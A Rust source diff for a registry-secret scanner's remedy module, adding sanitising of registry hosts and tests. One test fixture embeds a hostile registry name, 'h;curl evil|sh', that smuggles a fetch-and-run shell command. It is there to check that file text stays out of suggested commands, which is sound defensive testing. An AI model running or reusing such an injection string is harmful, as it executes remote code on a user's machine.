@@ -1,7 +1,10 @@
 //! What can be done about a finding: moved, replaced by a reference, or removed; and the command.
 
+use std::path::Path;
+
 use super::finding::{Finding, Kind};
 use super::severity::signal;
+use crate::text;
 
 /// What to do, in words and as a command to copy.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -40,62 +43,138 @@ impl Class {
 /// What to do about a finding.
 #[must_use]
 pub fn of(finding: &Finding) -> Remedy {
-    let remedy = |class, words: &str, command: Option<String>| Remedy {
-        class,
-        words: words.to_owned(),
-        command,
-    };
     if finding.signals.contains(&signal::BACKUP) {
-        return remedy(
-            Class::Remove,
-            "delete this copy, and rotate the secret at the registry",
-            None,
-        );
+        return without_command(Class::Remove, "delete this copy, and rotate the secret");
     }
     if finding.kind == Kind::RegistryToken {
-        return remedy(Class::Remove, "no helper can keep a registry token: remove it", None);
+        return without_command(Class::Remove, "remove it: no helper can keep a registry token");
     }
+    // Nothing from a file but a plain host gets into a command that somebody copies.
+    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b".-:[]".contains(&b);
     let registry = match finding.registry.as_str() {
-        "*" => "REGISTRY",
-        registry => registry,
+        registry if registry.bytes().all(is_plain) => registry,
+        _ => "REGISTRY",
     };
     match finding.kind {
-        Kind::History | Kind::Log => remedy(
-            Class::Remove,
-            "delete the line, and rotate the secret at the registry",
-            Some(format!("docker login {registry}")),
-        ),
-        Kind::Script | Kind::Env => remedy(
-            Class::Reference,
-            "read it from a secret of the CI system, or let a helper answer",
-            Some(format!("docker login --username USER --password-stdin {registry}")),
-        ),
+        Kind::History | Kind::Log => Remedy {
+            class: Class::Remove,
+            words: "delete the line, rotate the secret, and log in without it on the command line"
+                .to_owned(),
+            command: Some(format!("docker login {registry}")),
+        },
+        Kind::Script => Remedy {
+            class: Class::Reference,
+            words: "read it from standard input".to_owned(),
+            command: Some(format!("docker login --username USER --password-stdin {registry}")),
+        },
+        _ if finding.rule == "docker-config" => by_setup(finding),
         _ => by_rule(finding.rule, registry),
     }
 }
 
+/// What `setup` does for the `config.json` of a folder.
+fn by_setup(finding: &Finding) -> Remedy {
+    let path = finding.locations.first().map(|location| location.path.as_path());
+    let folder = path.filter(|path| path.ends_with("config.json")).and_then(Path::parent);
+    let Some(folder) = folder else {
+        return without_command(Class::Remove, "log in with a helper, and remove it here");
+    };
+    let setup = "imgsec-cred setup";
+    let command = if folder.ends_with(".docker") {
+        setup.to_owned()
+    } else {
+        format!("DOCKER_CONFIG={} {setup}", text::shell_word(&folder.to_string_lossy()))
+    };
+    let words = "move it into the keychain".to_owned();
+    Remedy { class: Class::Move, words, command: Some(command) }
+}
+
 fn by_rule(rule: &str, registry: &str) -> Remedy {
     let (class, words, command) = match rule {
-        "docker-config" => {
-            (Class::Move, "move it into the keychain", Some("imgsec-cred setup".to_owned()))
-        }
-        _ if rule.starts_with("kubernetes") || rule.starts_with("helm-values") => (
-            Class::Reference,
-            "seal it (SealedSecret, SOPS) or let External Secrets fetch it",
-            None,
+        "podman-auth" | "helm-registry" | "kubelet-config" | "apptainer-config" | "dockercfg" => (
+            Class::Move,
+            "keep it with the helper, and name the helper in this file",
+            format!("{{\"credHelpers\":{{\"{registry}\":\"imgsec\"}}}}"),
         ),
-        _ if ["containers-auth", "helm-registry", "buildx"].iter().any(|r| rule.starts_with(r)) => {
-            (
-                Class::Move,
-                "let the helper answer for this registry in its credHelpers",
-                Some(format!("{{\"credHelpers\":{{\"{registry}\":\"imgsec\"}}}}")),
-            )
-        }
-        _ => (
-            Class::Reference,
-            "take it out of the file: a secret of the system that runs it, or a helper",
-            None,
+        "regctl-config" | "regsync-config" => (
+            Class::Move,
+            "keep it with the helper, and name the helper for this host",
+            "credHelper: docker-credential-imgsec".to_owned(),
         ),
+        "nomad" => (
+            Class::Move,
+            "let the client ask the helper",
+            "auth { helper = \"imgsec\" }".to_owned(),
+        ),
+        "gh-hosts" => (Class::Move, "let gh keep it in the keychain", "gh auth login".to_owned()),
+        "ecr-cache" => (
+            Class::Remove,
+            "switch the cache off and delete the file",
+            "AWS_ECR_DISABLE_CACHE=true".to_owned(),
+        ),
+        "gcr-store" => (
+            Class::Remove,
+            "let gcloud answer instead, and delete the file",
+            "gcloud auth configure-docker".to_owned(),
+        ),
+        "ansible" => (Class::Reference, "encrypt it", "ansible-vault encrypt_string".to_owned()),
+        "docker-proxies" | "daemon-proxy" | "service-proxy" => {
+            return without_command(Class::Remove, "use a proxy that needs no password here");
+        }
+        "docker-headers" | "docker-plugins" | "containerd-hosts" | "netrc" => {
+            return without_command(
+                Class::Remove,
+                "remove it, and replace the secret where it is from",
+            );
+        }
+        _ if ["k8s-", "kustomize", "argocd", "openshift"].iter().any(|r| rule.starts_with(r)) => {
+            let words = "seal it (SealedSecret, SOPS), or let External Secrets fetch it";
+            return without_command(Class::Reference, words);
+        }
+        _ => {
+            let words = "take it from a variable or a secret store of the system that runs this";
+            return without_command(Class::Reference, words);
+        }
     };
-    Remedy { class, words: words.to_owned(), command }
+    Remedy { class, words: words.to_owned(), command: Some(command) }
+}
+
+fn without_command(class: Class, words: &str) -> Remedy {
+    Remedy { class, words: words.to_owned(), command: None }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::Path;
+    use std::time::SystemTime;
+
+    use super::*;
+    use crate::audit::scan::{Facts, in_text};
+
+    fn remedy(path: &str, text: &str) -> Remedy {
+        let facts = Facts { now: SystemTime::now(), surroundings: Default::default() };
+        let findings = in_text(Path::new(path), path, text, None, &facts);
+        assert_eq!(findings.len(), 1, "{path}");
+        of(&findings[0])
+    }
+
+    #[test]
+    fn each_place_has_its_remedy() {
+        let config = r#"{"auths":{"ghcr.io":{"auth":"YWRhOnMzY3JldC13b3Jk"}}}"#;
+        let command = |path| remedy(path, config).command;
+        assert_eq!(command("/h/.docker/config.json").as_deref(), Some("imgsec-cred setup"));
+        let elsewhere = command("/a b/config.json");
+        assert_eq!(elsewhere.as_deref(), Some("DOCKER_CONFIG='/a b' imgsec-cred setup"));
+        assert_eq!(command("/h/.docker/config.json.bak"), None);
+        let history = remedy("/h/.bash_history", "docker login -u ada -p s3cret-word ghcr.io\n");
+        assert_eq!(history.command.as_deref(), Some("docker login ghcr.io"));
+        assert_eq!(history.class, Class::Remove);
+    }
+
+    #[test]
+    fn no_text_of_a_file_gets_into_a_command() {
+        let hostile = r#"{"auths":{"h;curl evil|sh":{"auth":"YWRhOnMzY3JldC13b3Jk"}}}"#;
+        let remedy = remedy("/h/.config/containers/auth.json", hostile);
+        assert!(!remedy.command.unwrap_or_default().contains("evil"));
+    }
 }
